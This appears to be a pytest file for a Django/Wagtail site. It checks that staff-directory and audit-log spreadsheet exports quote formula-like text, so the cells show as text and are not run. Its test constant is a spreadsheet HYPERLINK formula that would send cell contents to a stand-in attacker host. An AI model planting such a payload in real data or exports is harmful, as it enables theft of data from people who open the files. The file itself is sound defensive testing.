"""Spreadsheets out are inert: a name that starts like a formula shows as text in the staff
directory and in the admin's audit log export, while numbers and dates keep their types."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.contenttypes.models import ContentType
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from home.spreadsheets import inert
from people.roles import OFFICER
from tests.factories import UserFactory
from tests.factories.people import OfficerFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'


def test_the_helper_quotes_text_that_starts_like_a_formula_and_keeps_other_values():
    import datetime
    from decimal import Decimal

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert inert(start + "1+1") == "'" + start + "1+1"
    today = datetime.date(2026, 12, 6)
    assert [inert(v) for v in (-5, 2.5, Decimal("-1.5"), today, None, "Lan")] == [
        -5,
        2.5,
        Decimal("-1.5"),
        today,
        None,
        "Lan",
    ]


@pytest.fixture
def formula_officer(org):
    user = UserFactory(
        email="formula@example.org", first_name=FORMULA, last_name="", roles=[OFFICER]
    )
    OfficerFactory(user=user, employee_code="=1+1", unit=org.district_a1)
    return user


def test_the_directory_csv_shows_formula_like_text_as_text(client, administrator, formula_officer):
    client.force_login(administrator)
    text = client.get("/people/export/csv/").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'=1+1" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
    assert any(cell.startswith("'" + FORMULA[:10]) for cell in cells)


def test_the_directory_xlsx_holds_no_formula(client, administrator, formula_officer):
    client.force_login(administrator)
    book = load_workbook(io.BytesIO(client.get("/people/export/xlsx/").content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert "'=1+1" in [cell.value for cell in cells]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_audit_log_export_holds_no_formula(client, administrator, kind):
    ModelLogEntry.objects.create(
        content_type=ContentType.objects.get_for_model(administrator),
        label=FORMULA,
        action="wagtail.edit",
        object_id=str(administrator.pk),
        user=administrator,
        timestamp=timezone.now(),
    )
    client.force_login(administrator)
    response = client.get(reverse("wagtailadmin_reports:site_history"), {"export": kind})
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    if kind == "csv":
        cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
        assert "'" + FORMULA in cells
    else:
        book = load_workbook(io.BytesIO(data))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert not [cell for cell in cells if cell.data_type == "f"]
        assert "'" + FORMULA in [cell.value for cell in cells]
